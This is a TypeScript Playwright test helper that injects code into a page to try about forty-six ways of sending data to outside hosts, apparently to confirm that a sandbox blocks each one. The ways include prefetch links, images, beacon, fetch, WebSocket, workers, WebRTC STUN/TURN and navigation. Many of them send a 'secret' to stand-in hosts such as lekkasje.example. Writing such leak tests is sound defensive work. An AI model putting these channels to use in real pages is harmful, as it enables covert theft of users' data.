import type { Page } from '@playwright/test';
import { setTimeout as pause } from 'node:timers/promises';
import { keepNames } from './in-window.ts';

/** Ways in which a page can try to send a byte away. Each asks for a host name, or an address, that no other one asks for. */
export const vectors = [
  'dns-prefetch',
  'preconnect',
  'prefetch',
  'preload',
  'prerender',
  'modulepreload',
  'stylesheet',
  'icon',
  'manifest',
  'speculation rules',
  'img',
  'img srcset',
  'picture source',
  'input image',
  'svg image',
  'script',
  'inline style',
  'css import',
  'font face',
  'iframe',
  'embed',
  'object',
  'video',
  'audio',
  'track',
  'fetch',
  'fetch keepalive',
  'xhr',
  'beacon',
  'websocket',
  'webtransport',
  'event source',
  'worker',
  'fetch in worker',
  'shared worker',
  'service worker',
  'import',
  'link ping',
  'download',
  'form',
  'window.open',
  'meta refresh',
  'location',
  'top location',
  'webrtc by name',
  'webrtc by address',
] as const;

export type Vector = (typeof vectors)[number];

/** The name a vector asks for, so that the trap can tell which one got out. */
export const hostOf = (vector: Vector): string => `v${vectors.indexOf(vector) + 1}.lekkasje.example`;

/** The address the one vector without a name asks for. */
export const bareAddress = '198.51.100.77';

/** Tries one way out from within the page. What the page is refused is swallowed there: only the trap's word counts. */
export const tryVector = async (page: Page, vector: Vector): Promise<void> => {
  await settled(() => page.evaluate(keepNames));
  // A page that leaves takes the question with it.
  await page.evaluate(attempt, { vector, host: hostOf(vector), address: bareAddress }).catch(unlessLeaving);
};

const unlessLeaving = (error: unknown): void => {
  if (!/context was destroyed|navigat/i.test(String(error))) throw error;
};

/** An earlier way out may still be taking the page away: then it is asked again. */
const settled = async (ask: () => Promise<unknown>): Promise<void> => {
  for (let time = 0; time < 10; time += 1) {
    try {
      await ask();
      return;
    } catch (error) {
      unlessLeaving(error);
      await pause(200);
    }
  }
};

interface Aim {
  readonly vector: Vector;
  readonly host: string;
  readonly address: string;
}

/** Runs in the page, so it may use nothing from outside itself. */
const attempt = async ({ vector, host, address }: Aim): Promise<void> => {
  const web = `http://${host}/secret`;
  const add = (
    tag: string,
    attributes: Readonly<Record<string, string>>,
    into: ParentNode = document.body,
  ) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    into.append(element);
    return element;
  };
  const link = (rel: string, more: Readonly<Record<string, string>> = {}) =>
    add('link', { rel, href: web, ...more }, document.head);
  const style = (text: string) => Object.assign(add('style', {}, document.head), { textContent: text });
  const peer = async (server: string): Promise<void> => {
    const connection = new RTCPeerConnection({
      iceServers: [
        { urls: `stun:${server}:3478` },
        {
          urls: [`turn:${server}:3478`, `turn:${server}:3478?transport=tcp`],
          username: 'a',
          credential: 'b',
        },
      ],
    });
    connection.createDataChannel('x');
    await connection.setLocalDescription(await connection.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 1500));
    connection.close();
  };
  const blob = (text: string) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
  const ways: Readonly<Record<Vector, () => unknown>> = {
    'dns-prefetch': () => link('dns-prefetch', { href: `//${host}` }),
    preconnect: () => link('preconnect'),
    prefetch: () => link('prefetch'),
    preload: () => link('preload', { as: 'image' }),
    prerender: () => link('prerender'),
    modulepreload: () => link('modulepreload'),
    stylesheet: () => link('stylesheet'),
    icon: () => link('icon'),
    manifest: () => link('manifest'),
    'speculation rules': () =>
      Object.assign(add('script', { type: 'speculationrules' }, document.head), {
        textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [web], eagerness: 'immediate' }] }),
      }),
    img: () => add('img', { src: web }),
    'img srcset': () => add('img', { srcset: `${web} 1x, ${web} 2x` }),
    'picture source': () =>
      add('img', {}, add('picture', {})).before(
        Object.assign(document.createElement('source'), { srcset: web }),
      ),
    'input image': () => add('input', { type: 'image', src: web }),
    'svg image': () => {
      const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
      const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
      image.setAttribute('href', web);
      svg.append(image);
      document.body.append(svg);
    },
    script: () => add('script', { src: web }, document.head),
    'inline style': () => add('div', { style: `background: url(${web}); width: 9px; height: 9px` }),
    'css import': () => style(`@import url(${web});`),
    'font face': () => new FontFace('x', `url(${web})`).load(),
    iframe: () => add('iframe', { src: web }),
    embed: () => add('embed', { src: web }),
    object: () => add('object', { data: web }),
    video: () => add('video', { src: web, preload: 'auto' }),
    audio: () => add('audio', { src: web, preload: 'auto' }),
    track: () => {
      const video = add('video', { crossorigin: 'anonymous' });
      const track = add('track', { src: web, default: '', kind: 'subtitles' }, video);
      if (track instanceof HTMLTrackElement) track.track.mode = 'showing';
    },
    fetch: () => fetch(web),
    'fetch keepalive': () => fetch(web, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'secret' }),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open('POST', web, true);
      request.send('secret');
    },
    beacon: () => navigator.sendBeacon(web, 'secret'),
    websocket: () => new WebSocket(`ws://${host}/`),
    webtransport: () => {
      const Transport: unknown = Reflect.get(globalThis, 'WebTransport');
      return typeof Transport === 'function' && Reflect.construct(Transport, [`https://${host}:443/`]);
    },
    'event source': () => new EventSource(web),
    worker: () => new Worker(web),
    'fetch in worker': () => new Worker(blob(`fetch(${JSON.stringify(web)}, { mode: 'no-cors' })`)),
    'shared worker': () => new SharedWorker(blob(`importScripts(${JSON.stringify(web)})`)),
    // Registered from a file, it takes the whole of plain Electron down.
    'service worker': () => location.protocol !== 'file:' && navigator.serviceWorker.register(web),
    import: () => import(/* @vite-ignore */ web),
    'link ping': () => {
      const anchor = add('a', { href: '#stay', ping: web });
      anchor.click();
    },
    download: () => add('a', { href: web, download: 'secret.txt' }).click(),
    form: () => {
      const form = add('form', { action: web, method: 'post' });
      if (form instanceof HTMLFormElement) form.submit();
    },
    'window.open': () => window.open(web),
    'meta refresh': () => add('meta', { 'http-equiv': 'refresh', content: `0;url=${web}` }, document.head),
    location: () => location.assign(web),
    'top location': () => {
      if (top !== null) top.location.href = web;
    },
    'webrtc by name': () => peer(host),
    'webrtc by address': () => peer(address),
  };
  try {
    await Promise.race([ways[vector](), new Promise((resolve) => setTimeout(resolve, 2500))]);
  } catch {
    // Refused, as it should be.
  }
};
